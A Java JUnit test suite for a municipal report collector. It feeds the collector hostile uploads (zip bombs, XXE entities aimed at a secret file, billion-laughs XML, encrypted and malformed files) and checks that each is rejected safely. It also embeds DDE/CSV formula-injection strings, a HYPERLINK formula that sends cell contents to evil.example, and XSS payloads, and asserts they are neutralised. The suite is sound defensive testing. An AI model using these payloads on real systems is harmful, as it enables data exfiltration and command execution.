package jp.reform.collector.hostile;

import static org.assertj.core.api.Assertions.assertThat;

import jakarta.mail.internet.MimeMessage;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.nio.file.attribute.FileTime;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import jp.reform.collector.app.AppSettings;
import jp.reform.collector.app.CollectorApplication;
import jp.reform.collector.store.Database;
import jp.reform.collector.support.AllLogLines;
import jp.reform.collector.support.DepartmentFiles;
import jp.reform.collector.support.MailServer;
import jp.reform.collector.support.MailServer.Attachment;
import jp.reform.collector.support.Sql;
import jp.reform.collector.support.TestHome;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/**
 * Hostile files against the real YAML routes, a real inbox and PostgreSQL, in a 256 MB heap (the
 * surefire execution {@code small-heap} in pom.xml runs this package alone with -Xmx256m): zip bombs,
 * external entities pointing at a local secret, nested entities, formula and HTML injection, encrypted,
 * cut-off, pre-2000, fake and undecodable files, a huge cell and a huge row count, all in one run beside
 * good files. Each hostile file ends in .error with a receipt that says why in Japanese and one receipt
 * mail; the good files are loaded; the run neither fails nor hangs; nothing outside the inbox reaches a
 * receipt, a mail, a row or a log line; a second run answers nothing again.
 */
@Tag("small-heap")
@Timeout(value = 5, unit = TimeUnit.MINUTES) // a guard against a hang, not a measurement
class HostileFilesTest {

    private static final LocalDate TODAY = LocalDate.of(2026, 7, 1);
    private static final long HEAP_LIMIT = 256L * 1024 * 1024;
    private static final long ONE_GIB = 1L << 30;
    private static final String SECRET = "SECRET-9d41-外部ファイルの中身";
    private static final String SHOKUIN = "shokuin@atsugi.example.jp";

    private static final String UNREADABLE = "ファイルを読み取れませんでした。ファイルが壊れているか、Excel の形式ではありません。";
    private static final String ENCRYPTED = "ファイルにパスワードが設定されているため読み取れません。";
    private static final String ENCRYPTED_ZIP = "パスワード付きの ZIP ファイルのため開けません。";
    private static final String UNKNOWN_ENCODING = "文字コードを判別できませんでした。";

    /** Texts Excel would take for formulas: loaded as text, written back as text. */
    private static final Map<String, String> FORMULA_LIKE = new LinkedHashMap<>();

    static {
        FORMULA_LIKE.put("II-1-ア-1", "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"詳細はこちら\")");
        FORMULA_LIKE.put("II-2-ア-1", "+cmd|' /C calc'!A0");
        FORMULA_LIKE.put("II-2-ア-2", "-2+3+cmd|' /C calc'!A0");
        FORMULA_LIKE.put("II-1-イ-1", "@SUM(1+1)*cmd|' /C calc'!A0");
    }

    @TempDir
    Path dir;
    /** Outside the inbox: what an external entity points at. */
    @TempDir
    Path outside;
    private TestHome home;
    private Path inbox;
    private String dbUrl;
    private Database db;

    @BeforeEach
    void setUp() throws IOException {
        home = TestHome.in(dir);
        inbox = home.inbox();
        dbUrl = home.dbUrl();
        db = home.db();
    }

    @AfterEach
    void tearDown() {
        home.close();
    }

    /** A file dropped by a department and the phrase its receipt must give. */
    private record Drop(String department, String name, String reason) {
    }

    @Test
    void everyHostileFileGetsOneReceiptInTheErrorFolderWhileTheGoodFilesBesideThemAreLoaded() throws Exception {
        assertThat(Runtime.getRuntime().maxMemory()).as("this suite proves bounded memory only in a small heap: "
                + "run it by the small-heap execution of pom.xml").isLessThanOrEqualTo(HEAP_LIMIT);
        Path secret = Files.writeString(outside.resolve("secret.txt"), SECRET, StandardCharsets.UTF_8);
        List<Drop> hostile = new ArrayList<>();
        Path shokuin = department("職員課");
        byte[] plainXlsx = HostileFiles.poiXlsx(List.of(List.of("I-1-ア-1", 2025, 97, "研修を実施")));
        byte[] plainXls = HostileFiles.poiXls(List.of(List.of("I-1-ア-1", 2025, 97, "研修を実施")));

        // zip bombs: 1 GB of text in about 1 MB, in the sheet and in the shared strings (read before any row)
        HostileFiles.sheetBomb(shokuin.resolve("爆弾_シート.xlsx"), ONE_GIB);
        hostile.add(new Drop("職員課", "爆弾_シート.xlsx", UNREADABLE));
        HostileFiles.sharedStringsBomb(shokuin.resolve("爆弾_共有文字列.xlsx"), ONE_GIB);
        hostile.add(new Drop("職員課", "爆弾_共有文字列.xlsx", UNREADABLE));
        // external entities naming a file outside the inbox, in the sheet and in the shared strings
        HostileFiles.xlsx(shokuin.resolve("外部実体_シート.xlsx"), HostileFiles.sheet(
                HostileFiles.externalEntity("worksheet", secret), List.of(List.of("&xxe;", "2025", "97", "&xxe;"))), null);
        hostile.add(new Drop("職員課", "外部実体_シート.xlsx", UNREADABLE));
        HostileFiles.xlsx(shokuin.resolve("外部実体_共有文字列.xlsx"),
                HostileFiles.sheet("", List.of(List.of("s:0", "2025", "97", "s:0"))),
                HostileFiles.sharedStrings(HostileFiles.externalEntity("sst", secret), List.of("&xxe;")));
        hostile.add(new Drop("職員課", "外部実体_共有文字列.xlsx", UNREADABLE));
        // nested entities: 10^9 "lol" from a few hundred bytes
        HostileFiles.xlsx(shokuin.resolve("十億の笑い.xlsx"), HostileFiles.sheet(HostileFiles.billionLaughs("worksheet"),
                List.of(List.of("I-1-ア-1", "2025", "97", "&lol9;"))), null);
        hostile.add(new Drop("職員課", "十億の笑い.xlsx", UNREADABLE));
        // a formula saved without its result (a program that does not calculate wrote it): refused at its cell,
        // not read as a blank that would erase the value before it
        HostileFiles.xlsx(shokuin.resolve("計算結果なし.xlsx"), HostileFiles.sheet("",
                List.of(List.of("I-1-ア-1", "2025", "f:SUM(90,7)", "研修を実施"))), null);
        hostile.add(new Drop("職員課", "計算結果なし.xlsx", "[シート「実績報告」 2行目 C列] "
                + "「実績値」欄は計算式ですが、その計算結果がファイルに保存されていません。\r\n   入力値：「=SUM(90,7)」"));
        // locked with a password: an encrypted xlsx, and a password ZIP under an Excel name
        HostileFiles.encryptedXlsx(shokuin.resolve("パスワード付き.xlsx"), plainXlsx);
        hostile.add(new Drop("職員課", "パスワード付き.xlsx", ENCRYPTED));
        Files.write(shokuin.resolve("パスワード付きZIP.xlsx"), HostileFiles.passwordZip("実績.xlsx", plainXlsx));
        hostile.add(new Drop("職員課", "パスワード付きZIP.xlsx", ENCRYPTED_ZIP));
        Files.write(shokuin.resolve("パスワード付き.zip"), HostileFiles.passwordZip("実績.xlsx", plainXlsx));
        hostile.add(new Drop("職員課", "パスワード付き.zip", ENCRYPTED_ZIP));
        Files.write(shokuin.resolve("実績一式.zip"), HostileFiles.zip("実績.xlsx", plainXlsx));
        hostile.add(new Drop("職員課", "実績一式.zip", "このファイル形式（.zip）には対応していません。"));
        // cut off half way
        Files.write(shokuin.resolve("途中まで.xlsx"), HostileFiles.firstHalf(plainXlsx));
        hostile.add(new Drop("職員課", "途中まで.xlsx", UNREADABLE));
        Files.write(shokuin.resolve("途中まで.xls"), HostileFiles.firstHalf(plainXls));
        hostile.add(new Drop("職員課", "途中まで.xls", UNREADABLE));
        // Excel 5.0/95
        HostileFiles.biff5(shokuin.resolve("Excel95.xls"));
        hostile.add(new Drop("職員課", "Excel95.xls", "Excel 95 以前の古い形式のため読み取れません。"));
        // not what the name says
        Files.write(shokuin.resolve("でたらめ.xlsx"), HostileFiles.garbage(16 * 1024, 1));
        hostile.add(new Drop("職員課", "でたらめ.xlsx", UNREADABLE));
        Files.write(shokuin.resolve("でたらめ.xls"), HostileFiles.garbage(16 * 1024, 2));
        hostile.add(new Drop("職員課", "でたらめ.xls", UNREADABLE));
        Files.write(shokuin.resolve("でたらめ.csv"), HostileFiles.garbage(16 * 1024, 3));
        hostile.add(new Drop("職員課", "でたらめ.csv", UNKNOWN_ENCODING));
        Files.write(shokuin.resolve("写真.xlsx"), HostileFiles.png());
        hostile.add(new Drop("職員課", "写真.xlsx", UNREADABLE));
        Files.createFile(shokuin.resolve("空.xlsx"));
        hostile.add(new Drop("職員課", "空.xlsx", "ファイルが空です（0 バイト）。"));
        HostileFiles.undecodableCsv(shokuin.resolve("文字コード不明.csv"));
        hostile.add(new Drop("職員課", "文字コード不明.csv", UNKNOWN_ENCODING));
        // past the default limits
        HostileFiles.longCellCsv(shokuin.resolve("長いセル.csv"), 7_000_000);
        hostile.add(new Drop("職員課", "長いセル.csv",
                "「取組状況」欄の文字数（7,000,000字）が、1つのセルに入力できる上限（10,000字）を超えています。"));
        HostileFiles.manyRowsCsv(shokuin.resolve("20万行.csv"), 200_000);
        hostile.add(new Drop("職員課", "20万行.csv",
                "データの行数が、1つのファイルで受け付けられる上限（10,000行）を超えています（少なくとも10,001行あります）。"));
        // HTML in a name and in an indicator code: the receipt names both, the exception report escapes them
        String htmlName = "<img src=x onerror=alert(1)>.csv";
        Path html = HostileFiles.csv(shokuin.resolve(htmlName), StandardCharsets.UTF_8,
                List.of(List.of("<script>alert('取組')</script>", "2025", "97", "<b onmouseover=alert(2)>研修</b>")));
        // the oldest, so read first (files one poll found settle in one poll, and a 課's are loaded oldest first):
        // the mail lists the first 20 rejected files, the workbook all of them
        Files.setLastModifiedTime(html, FileTime.from(Instant.now().minus(Duration.ofHours(1))));
        hostile.add(new Drop("職員課", htmlName, "指標コード「<script>alert('取組')</script>」は計画に登録されていません。"));

        // the good files: a department's own workbook, a hand-written package like the hostile ones, and
        // texts that start like formulas
        DepartmentFiles.xlsx(shokuin.resolve("実績.xlsx"), "令和7年度 実績報告", DepartmentFiles.HEADER,
                List.of(List.of("I-1-ウ-1", 2025, 29, "派遣研修を実施", "", "", "")));
        HostileFiles.xlsx(department("契約検査課").resolve("手書きの様式.xlsx"),
                HostileFiles.sheet("", List.of(List.of("I-3-イ-2", "2025", "30", "電子契約を導入"))), null);
        List<List<String>> formulaRows = new ArrayList<>();
        FORMULA_LIKE.forEach((code, text) -> formulaRows.add(List.of(code, "2025", "3", text)));
        HostileFiles.csv(department("行政経営課").resolve("数式のような取組状況.csv"), StandardCharsets.UTF_8, formulaRows);

        CollectorApplication.RunOnceResult result;
        List<String> logLines;
        try (AllLogLines logs = new AllLogLines()) {
            result = runOnce();
            logLines = logs.lines();
        }

        // the run went through, every item answered
        assertThat(result.sweep().hasFailed()).as(result.sweep().firstFailure()).isFalse();
        assertThat(result.overnightFailure()).isNull();
        assertThat(result.sweep().summary()).isEqualTo("accepted 3, rejected %d, already received 0", hostile.size());
        assertThat(Sql.count(db, "select count(*) from folder_refusal")).isZero();
        assertThat(inbox.resolve("職員課/.quarantine")).doesNotExist();

        // each hostile file: in .error beside its receipt, which says why; one receipt mail
        for (Drop drop : hostile) {
            Path folder = inbox.resolve(drop.department());
            assertThat(folder.resolve(drop.name())).as(drop.name()).doesNotExist();
            Map<String, Object> submission = Sql.one(db, "select submission_id, receipt_no, status, archived_path "
                    + "from submission where source_name = ?", drop.name());
            assertThat(submission).as(drop.name()).containsEntry("status", "rejected");
            String archived = submission.get("archived_path").toString();
            assertThat(archived).as(drop.name()).startsWith(".error/");
            assertThat(folder.resolve(archived)).as(drop.name()).isRegularFile();
            assertThat(read(folder.resolve(archived + "_受付結果.txt"))).as(drop.name())
                    .contains("受け付けできませんでした", "受付番号　：" + submission.get("receipt_no"),
                            "ファイル名：" + drop.name(), drop.reason());
            assertThat(Sql.count(db, "select count(*) from outbox_mail where kind = 'receipt' and submission_id = ?",
                    submission.get("submission_id"))).as(drop.name()).isEqualTo(1);
        }
        // the bombs and the entities are refused at once, not after inflating or expanding
        for (String name : List.of("爆弾_シート.xlsx", "爆弾_共有文字列.xlsx", "十億の笑い.xlsx")) {
            assertThat(Sql.count(db, "select ceil(extract(epoch from processed_at - received_at)) from submission "
                    + "where source_name = ?", name)).as(name).isLessThan(15);
        }

        // the good files are loaded
        assertThat(Sql.rows(db, "select source_name from submission where status = 'accepted' order by source_name"))
                .extracting(r -> r.get("source_name")).containsExactlyInAnyOrder("実績.xlsx", "手書きの様式.xlsx",
                        "数式のような取組状況.csv");
        assertThat(Sql.one(db, "select actual_text, status_text from result_current where indicator_code = 'I-1-ウ-1'"))
                .containsEntry("actual_text", "29").containsEntry("status_text", "派遣研修を実施");
        assertThat(Sql.one(db, "select status_text from result_current where indicator_code = 'I-3-イ-2'"))
                .containsEntry("status_text", "電子契約を導入");
        // formula-like texts are stored as written
        FORMULA_LIKE.forEach((code, text) -> assertThat(Sql.one(db,
                "select status_text from result_current where indicator_code = ?", code)).containsEntry("status_text", text));
        assertThat(Sql.count(db, "select count(*) from result")).isEqualTo(6);

        // one receipt mail per file, written as .eml (no SMTP server here)
        long submissions = Sql.count(db, "select count(*) from submission");
        assertThat(submissions).isEqualTo(hostile.size() + 3);
        assertThat(Sql.count(db, "select count(*) from outbox_mail where kind = 'receipt'")).isEqualTo(submissions);
        assertThat(Sql.count(db, "select count(distinct submission_id) from outbox_mail where kind = 'receipt'"))
                .isEqualTo(submissions);
        List<String> receiptSubjects = new ArrayList<>();
        for (Path eml : emls("_receipt.eml")) {
            receiptSubjects.add(new MimeMessage(null, new ByteArrayInputStream(Files.readAllBytes(eml))).getSubject());
        }
        assertThat(receiptSubjects).hasSize((int) submissions);
        for (Drop drop : hostile) {
            String receiptNo = Sql.one(db, "select receipt_no from submission where source_name = ?", drop.name())
                    .get("receipt_no").toString();
            assertThat(receiptSubjects).as(drop.name()).filteredOn(s -> s.contains("（受付番号 " + receiptNo + "）"))
                    .singleElement().satisfies(s -> assertThat(s).contains("受け付けできませんでした", drop.name()));
        }
        assertThat(Sql.rows(db, "select recipients_to::text as r from outbox_mail where kind = 'receipt' "
                + "and submission_id in (select submission_id from submission where department_name = '職員課')"))
                .allSatisfy(r -> assertThat(r.get("r")).isEqualTo("{" + SHOKUIN + "}"));

        // nothing of the file outside the inbox anywhere
        assertThat(filesUnder(inbox)).filteredOn(p -> p.toString().endsWith(".txt")).hasSize(hostile.size() + 3)
                .allSatisfy(receipt -> assertThat(read(receipt)).doesNotContain(SECRET));
        assertThat(emls(".eml")).isNotEmpty().allSatisfy(eml -> assertThat(decoded(eml)).doesNotContain(SECRET));
        assertThat(everyRow()).doesNotContain(SECRET);
        assertThat(logLines).isNotEmpty().noneSatisfy(line -> assertThat(line).contains(SECRET));

        // HTML from the file is escaped in the division's exception report, never markup; the report lists
        // rejected files in the order received, and this one was received first
        assertThat(Sql.one(db, "select source_name from submission where status = 'rejected' "
                + "order by received_at, submission_id limit 1")).containsEntry("source_name", htmlName);
        assertThat(exceptionReportHtml()).contains("&lt;img src=x onerror=alert(1)&gt;.csv", "&lt;script&gt;alert(")
                .doesNotContain("<img src=x", "<script", "onerror=alert(1)>");

        // texts that look like formulas are text cells in the workbooks the collector writes
        Path committee = filesUnder(dir.resolve("reports")).stream().filter(p -> p.toString().endsWith(".xlsx"))
                .filter(p -> p.getParent().getFileName().toString().equals("atsugi-7-2")).findFirst().orElseThrow();
        try (XSSFWorkbook workbook = new XSSFWorkbook(committee.toFile())) {
            assertThat(formulaCells(workbook)).isEmpty();
            Map<String, Cell> found = cellsWithText(workbook, FORMULA_LIKE.values());
            assertThat(found.keySet()).containsExactlyInAnyOrderElementsOf(FORMULA_LIKE.values());
            assertThat(found.values()).allSatisfy(cell -> {
                assertThat(cell.getCellType()).isEqualTo(CellType.STRING);
                assertThat(cell.getCellStyle().getQuotePrefixed()).isTrue();
            });
        }
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(exceptionWorkbook()))) {
            assertThat(formulaCells(workbook)).isEmpty();
            // the workbook lists every rejected file, the HTML-named one by its name as a text
            assertThat(cellsWithText(workbook, List.of(htmlName))).containsKey(htmlName);
        }

        // the next run answers nothing again
        long mails = Sql.count(db, "select count(*) from outbox_mail where kind = 'receipt'");
        var second = runOnce();
        assertThat(second.sweep().hasFailed()).isFalse();
        assertThat(second.overnightFailure()).isNull();
        assertThat(second.sweep().summary()).isEqualTo("accepted 0, rejected 0, already received 0");
        assertThat(Sql.count(db, "select count(*) from submission")).isEqualTo(submissions);
        assertThat(Sql.count(db, "select count(*) from outbox_mail where kind = 'receipt'")).isEqualTo(mails);
        assertThat(emls("_receipt.eml")).hasSize((int) submissions);
    }

    @Test
    void byMailAnExternalEntityAndAnEncryptedWorkbookAreAnsweredOnceEachBesideAGoodCsv() throws Exception {
        Path secret = Files.writeString(outside.resolve("secret.txt"), SECRET, StandardCharsets.UTF_8);
        Path xxe = HostileFiles.xlsx(dir.resolve("xxe.xlsx"), HostileFiles.sheet(
                HostileFiles.externalEntity("worksheet", secret), List.of(List.of("&xxe;", "2025", "97", "&xxe;"))), null);
        Path encrypted = HostileFiles.encryptedXlsx(dir.resolve("encrypted.xlsx"),
                HostileFiles.poiXlsx(List.of(List.of("I-1-ア-1", 2025, 97, "研修を実施"))));
        byte[] csv = HostileFiles.csvText(List.of(List.of("I-1-ウ-1", "2025", "29", "派遣研修を実施")))
                .getBytes(Charset.forName("windows-31j"));
        String xlsxType = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

        try (MailServer mail = new MailServer()) {
            mail.deposit("<hostile1@atsugi.example.jp>", SHOKUIN, "実績報告（職員課）", "3つ添付します。",
                    new Attachment("外部実体.xlsx", "UTF-8", xlsxType, Files.readAllBytes(xxe)),
                    new Attachment("パスワード付き.xlsx", "ISO-2022-JP", xlsxType, Files.readAllBytes(encrypted)),
                    new Attachment("実績.csv", "UTF-8", "text/csv", csv));

            var run = runOnce(mail.environment());

            assertThat(run.sweep().hasFailed()).as(run.sweep().firstFailure()).isFalse();
            assertThat(run.overnightFailure()).isNull();
            assertThat(run.sweep().summary()).isEqualTo("accepted 1, rejected 1, already received 0");
            assertThat(Sql.one(db, "select actual_text from result_current where indicator_code = 'I-1-ウ-1'"))
                    .containsEntry("actual_text", "29");
            assertThat(Sql.one(db, "select outcome from mail_message")).containsEntry("outcome", "processed");

            // one answer for each attachment: two receipts and one reply for the one that could not be opened
            List<MimeMessage> answers = mail.mailsTo(SHOKUIN);
            assertThat(answers).hasSize(3);
            // each answers the department's mail in its thread (Re: its subject); what it says is in its text
            List<String> texts = new java.util.ArrayList<>();
            for (MimeMessage answer : answers) {
                assertThat(answer.getSubject()).startsWith("Re: ");
                texts.add(answer.getSubject() + "\n" + MailServer.text(answer));
            }
            assertThat(texts).anySatisfy(text -> assertThat(text).contains("受け付けました", "実績.csv",
                    "1件の実績を登録しました"));
            assertThat(texts).anySatisfy(text -> assertThat(text).contains("受け付けできませんでした", "外部実体.xlsx",
                    UNREADABLE));
            assertThat(texts).anySatisfy(text -> assertThat(text).contains("添付ファイルを、実績報告として受け付けできませんでした",
                    "パスワード付き.xlsx には読み取りパスワードが設定されているため開けません")
                    .doesNotContain("外部実体.xlsx には", "実績.csv には"));
            assertThat(texts).noneSatisfy(text -> assertThat(text).contains(SECRET));
            assertThat(mail.sent()).noneSatisfy(m -> assertThat(MailServer.text(m) + MailServer.html(m)).contains(SECRET));
            assertThat(everyRow()).doesNotContain(SECRET);
            assertThat(mail.unreadInMailbox()).isZero();

            // marked unread again: nothing is answered twice
            mail.markAllUnread();
            var second = runOnce(mail.environment());
            assertThat(second.sweep().hasFailed()).isFalse();
            assertThat(second.sweep().summary()).isEqualTo("accepted 0, rejected 0, already received 0");
            assertThat(mail.mailsTo(SHOKUIN)).hasSize(3);
            assertThat(Sql.count(db, "select count(*) from submission")).isEqualTo(2);
        }
    }

    // --- running the collector ---

    private CollectorApplication.RunOnceResult runOnce() throws Exception {
        return runOnce(Map.of());
    }

    private CollectorApplication.RunOnceResult runOnce(Map<String, String> environment) throws Exception {
        AppSettings settings = home.settings(dir, environment).override("intake.settle-ms", TestHome.SETTLE_MS);
        try (CollectorApplication app = CollectorApplication.open(settings)) {
            return app.runOnce(Duration.ofMinutes(3), TODAY);
        }
    }

    private Path department(String name) throws IOException {
        return Files.createDirectories(inbox.resolve(name));
    }

    // --- what departments and the division get ---

    private List<Path> emls(String suffix) throws IOException {
        return filesUnder(dir.resolve("outbox")).stream().filter(p -> p.toString().endsWith(suffix)).toList();
    }

    /** A mail as written, its decoded subject and texts: what someone opening it would see. */
    private static String decoded(Path eml) throws Exception {
        byte[] raw = Files.readAllBytes(eml);
        MimeMessage message = new MimeMessage(null, new ByteArrayInputStream(raw));
        String html = MailServer.html(message);
        return new String(raw, StandardCharsets.ISO_8859_1) + "\n" + message.getSubject() + "\n"
                + MailServer.text(message) + "\n" + (html == null ? "" : html);
    }

    private MimeMessage exceptionReport() throws Exception {
        Map<String, Object> row = Sql.one(db, "select mime from outbox_mail where kind = 'exception_report' "
                + "and dedup_key = ?", "exception-report/atsugi-7-2/" + TODAY);
        return new MimeMessage(null, new ByteArrayInputStream((byte[]) row.get("mime")));
    }

    private String exceptionReportHtml() throws Exception {
        return MailServer.html(exceptionReport());
    }

    private byte[] exceptionWorkbook() throws Exception {
        Map<String, byte[]> attachments = MailServer.attachments(exceptionReport());
        assertThat(attachments).hasSize(1);
        return attachments.values().iterator().next();
    }

    private static List<Cell> formulaCells(XSSFWorkbook workbook) {
        List<Cell> found = new ArrayList<>();
        for (Sheet sheet : workbook) {
            for (Row row : sheet) {
                for (Cell cell : row) {
                    if (cell.getCellType() == CellType.FORMULA) {
                        found.add(cell);
                    }
                }
            }
        }
        return found;
    }

    private static Map<String, Cell> cellsWithText(XSSFWorkbook workbook, java.util.Collection<String> texts) {
        Map<String, Cell> found = new HashMap<>();
        for (Sheet sheet : workbook) {
            for (Row row : sheet) {
                for (Cell cell : row) {
                    if (cell.getCellType() == CellType.STRING && texts.contains(cell.getStringCellValue())) {
                        found.put(cell.getStringCellValue(), cell);
                    }
                }
            }
        }
        return found;
    }

    /** Every row of every table of the schema, as text. */
    private String everyRow() {
        StringBuilder all = new StringBuilder();
        for (Map<String, Object> table : Sql.rows(db,
                "select table_name from information_schema.tables where table_schema = 'public' and table_type = 'BASE TABLE'")) {
            for (Map<String, Object> row : Sql.rows(db, "select t::text as r from \"" + table.get("table_name") + "\" t")) {
                all.append(row.get("r")).append('\n');
            }
        }
        return all.toString();
    }

    private static List<Path> filesUnder(Path folder) throws IOException {
        if (!Files.exists(folder)) {
            return List.of();
        }
        try (Stream<Path> files = Files.walk(folder)) {
            return files.filter(p -> Files.isRegularFile(p, LinkOption.NOFOLLOW_LINKS)).sorted().toList();
        }
    }

    private static String read(Path file) throws IOException {
        return Files.readString(file, StandardCharsets.UTF_8);
    }
}
